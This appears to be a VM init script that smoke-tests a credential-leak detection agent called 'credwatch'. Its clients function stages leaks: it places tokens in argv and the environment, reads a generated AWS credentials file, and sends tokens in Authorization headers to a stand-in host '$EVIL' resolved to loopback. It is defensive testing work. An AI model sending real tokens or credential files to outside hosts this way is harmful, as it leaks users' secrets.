#!/bb/busybox sh
# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
# The VM's /init (busybox sh), put in the initramfs by tests/vm/run: mount what a host has,
# then for each agent mode in /smoke/modes start `credwatch run`, run the smoke clients as real
# ones run (each starts, sends, exits), wait for the findings the host expects, stop the
# agent, and write everything to the output disk (/dev/nvme0n1, a tar) for the host to judge.
# Progress goes to the console (ttyS0); no secret is ever printed here.
/bb/busybox --install -s /bb
export PATH=/usr/local/bin:/usr/bin:/usr/sbin:/bb HOME=/root
umask 022

t() { read -r up _ </proc/uptime; echo "vm: [$up] $*"; }

mount -t proc proc /proc
mount -t sysfs sysfs /sys
mount -t devtmpfs devtmpfs /dev 2>/dev/null
mkdir -p /dev/pts /tmp /run /var/tmp /sys/fs/cgroup
mount -t tmpfs -o mode=1777 tmpfs /tmp
mount -t tmpfs -o mode=755 tmpfs /run
mount -t cgroup2 cgroup2 /sys/fs/cgroup
mount -t tracefs tracefs /sys/kernel/tracing
mount -t debugfs debugfs /sys/kernel/debug 2>/dev/null
ip link set lo up
hostname cwvm
t "kernel $(uname -r) up; $(grep -c ^processor /proc/cpuinfo) cpu, $(grep MemTotal /proc/meminfo)"

. /smoke/config # MODES, CW_FLAGS_<mode>, ports; secrets in /smoke/<mode>/
OUT=/out
mkdir -p $OUT

# Wait for a TCP port on loopback to listen (state 0A in /proc/net/tcp{,6}).
listening() {
	hex=$(printf '%04X' "$1")
	grep -q ":$hex [0-9A-F:]* 0A " /proc/net/tcp /proc/net/tcp6 2>/dev/null
}
wait_listen() {
	i=0
	while ! listening "$1"; do
		i=$((i + 1))
		[ $i -gt 300 ] && { t "port $1 never listened"; return 1; }
		sleep 0.1
	done
}

# Start the servers once, after the first agent: it sees them load libssl; later agents find
# it already mapped. TLS: s_server (HTTP/1), nghttpd (h2); plain TCP: busybox httpd (HTTP/1),
# nghttpd --no-tls (h2c).
start_servers() {
	mkdir -p /tmp/www && echo ok >/tmp/www/v1
	openssl s_server -accept "$TLS_PORT" -cert /smoke/tls/cert -key /smoke/tls/key \
		-www -quiet >/dev/null 2>&1 &
	nghttpd -d /tmp/www "$H2_PORT" /smoke/tls/key /smoke/tls/cert >/dev/null 2>&1 &
	httpd -p "127.0.0.1:$HTTP_PORT" -h /tmp/www
	nghttpd --no-tls -d /tmp/www "$H2C_PORT" >/dev/null 2>&1 &
	for p in "$TLS_PORT" "$H2_PORT" "$HTTP_PORT" "$H2C_PORT"; do
		wait_listen "$p" || return 1
	done
	t "servers up: s_server :$TLS_PORT, nghttpd :$H2_PORT, httpd :$HTTP_PORT, nghttpd :$H2C_PORT"
}

# The smoke clients of one mode. Each records its exit status (and curl's HTTP version) in
# $o/clients, for the host to check that the client itself did what it should.
clients() {
	s=/smoke/$1 o=$OUT/$1
	. $s/secrets
	rec() { echo "$1 $2" >>$o/clients; }

	# argv, from a process in a cgroup made for it, named as a Docker container's: the
	# subshell moves itself there and becomes the client
	cg=/sys/fs/cgroup/$CGROUP_NAME
	mkdir -p "$cg"
	stat -c '%i' "$cg" >$o/cgroup_id
	(
		read -r me _ </proc/self/stat
		echo "$me" >"$cg/cgroup.procs" && exec /usr/bin/true "--token=$T_ARGV"
	)
	rec argv $?

	# a token in an exec's environment
	GITHUB_TOKEN=$T_ENV /usr/bin/true
	rec env $?

	# a watched credential file read by cat
	mkdir -p /root/.aws
	printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\n' \
		"$AWS_ID" "$AWS_SECRET" >/root/.aws/credentials
	/usr/bin/cat /root/.aws/credentials >/dev/null
	rec file $?

	# curl (OpenSSL) over HTTPS/1.1 to a host that is not GitHub's, the token in a header
	printf 'Authorization: token %s\n' "$T_CURL" >/tmp/hdr
	v=$(curl -sk --http1.1 --resolve "$EVIL:$TLS_PORT:127.0.0.1" -H @/tmp/hdr \
		-o /dev/null -w '%{http_version}' "https://$EVIL:$TLS_PORT/v1")
	rec curl "$? $v"

	# Go crypto/tls. A one-shot run of a binary the agent has not seen (a copy: a file of its
	# own), sending at once: held at its exec until probed (docs/egress.md); then a client
	# that polls an API every 200 ms, as a service does, until the mode ends.
	TOKEN=$T_GO_COLD /smoke/goclient-once tls "127.0.0.1:$TLS_PORT" "$EVIL"
	rec go_cold $?
	TOKEN=$T_GO /smoke/goclient poll "127.0.0.1:$TLS_PORT" "$EVIL" >$o/go_poll &
	poller=$!

	# HTTP/2: curl to nghttpd, the token in an HPACK-coded header
	printf 'Authorization: token %s\n' "$T_H2" >/tmp/hdr
	v=$(curl -sk --http2 --resolve "$EVIL:$H2_PORT:127.0.0.1" -H @/tmp/hdr \
		-o /dev/null -w '%{http_version}' "https://$EVIL:$H2_PORT/v1")
	rec h2 "$? $v"

	# plain TCP: curl (send), Go with sendmsg and writev, h2c frames through sendmsg
	printf 'Authorization: token %s\n' "$T_HTTP" >/tmp/hdr
	v=$(curl -s --resolve "$EVIL:$HTTP_PORT:127.0.0.1" -H @/tmp/hdr \
		-o /dev/null -w '%{http_version}' "http://$EVIL:$HTTP_PORT/v1")
	rec http "$? $v"
	TOKEN=$T_IOV /smoke/goclient iov "127.0.0.1:$HTTP_PORT" "$EVIL"
	rec iov $?
	TOKEN=$T_H2C /smoke/goclient h2c "127.0.0.1:$H2C_PORT" "$EVIL"
	rec h2c $?
	rm -f /tmp/hdr /root/.aws/credentials
}

# Wait until every "action fingerprint" line of the mode's expect file is in its output.
wait_expected() {
	end=$(($(cut -d. -f1 /proc/uptime) + FINDINGS_TIMEOUT))
	while :; do
		missing=0
		while read -r action fp; do
			grep -F "\"fingerprint\":\"$fp\"" $OUT/$1/stdout |
				grep -qF "\"action\":\"$action\"" || missing=$((missing + 1))
		done <$2
		[ $missing -eq 0 ] && return 0
		[ "$(cut -d. -f1 /proc/uptime)" -ge $end ] && {
			t "$missing expected findings still missing after ${FINDINGS_TIMEOUT}s"
			return 1
		}
		sleep 0.2
	done
}

if [ -x /smoke/verifier-stats ]; then
	t "verifier stats"
	/smoke/verifier-stats /smoke/stats.bpf.o >$OUT/verifier-stats 2>&1
	echo $? >$OUT/verifier-stats.rc
fi

if [ -f /smoke/e2e ]; then
	t "end-to-end tests: $(cat /smoke/e2e)"
	cp /opt/cw/credwatch /src/credwatch
	(cd /src && CREDWATCH_CACHE_DIR=/var/cache/credwatch CREDWATCH_BIN=./credwatch \
		python3 -m pytest -p no:cacheprovider tests/e2e --match "$(cat /smoke/e2e)" >$OUT/e2e.log 2>&1)
	echo $? >$OUT/e2e.rc
fi

servers=0
for m in $MODES; do
	o=$OUT/$m cg= poller=
	mkdir -p $o
	eval "flags=\$CW_FLAGS_$m"
	t "mode $m: starting credwatch run $flags"
	# shellcheck disable=SC2086
	CREDWATCH_CACHE_DIR=/var/cache/credwatch /opt/cw/credwatch run --include-loopback \
		--events --state none --fingerprint-key-file /smoke/fingerprint.key \
		$flags >$o/stdout 2>$o/stderr &
	pid=$!
	i=0
	while ! grep -q 'credwatch: running:' $o/stderr; do
		if ! kill -0 $pid 2>/dev/null; then
			t "mode $m: the agent exited before it ran"
			break
		fi
		i=$((i + 1))
		[ $i -gt $((AGENT_START_TIMEOUT * 10)) ] && { t "mode $m: no running: line"; break; }
		sleep 0.1
	done
	if kill -0 $pid 2>/dev/null && grep -q 'credwatch: running:' $o/stderr; then
		t "mode $m: agent running"
		[ $servers = 1 ] || { start_servers; servers=1; }
		clients $m
		t "mode $m: clients done"
		wait_expected $m /smoke/$m/expect && t "mode $m: every expected finding seen"
		[ -n "$poller" ] && kill "$poller" && wait "$poller"
		echo "go $(grep -c answered $o/go_poll)" >>$o/clients
		kill -INT $pid
	fi
	wait $pid
	[ -n "$cg" ] && rmdir "$cg"
	echo $? >$o/agent_rc
	t "mode $m: agent exited $(cat $o/agent_rc)"
done

# The rules database the agent compiled for this CPU, for the next run.
mkdir -p $OUT/cache && cp /var/cache/credwatch/* $OUT/cache/ 2>/dev/null
t "writing results"
tar -c -f /dev/nvme0n1 -C $OUT . && sync
t "done"
poweroff -f
